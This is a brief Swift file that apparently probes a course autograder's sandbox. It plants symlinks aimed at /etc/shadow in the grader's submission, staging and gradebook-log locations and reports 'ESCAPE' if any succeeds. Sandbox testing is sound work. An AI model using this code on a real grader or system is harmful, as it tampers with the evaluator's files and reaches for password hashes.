import CourseKit
import Foundation

func hostileAction(_ x: Vector) {
    let executable = (try? FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/exe")) ?? ""
    let folder = URL(fileURLWithPath: executable).deletingLastPathComponent()
    // Plant links where the grader keeps builds and state, aimed at the grader's own files.
    let plants = [folder.appendingPathComponent("submission.link").path,
                  folder.deletingLastPathComponent().appendingPathComponent("staging-trap").path,
                  folder.deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("gradebook.sqlite-wal").path]
    for path in plants where symlink("/etc/shadow", path) == 0 {
        fatalError("ESCAPE: planted a symlink at \(path)")
    }
}
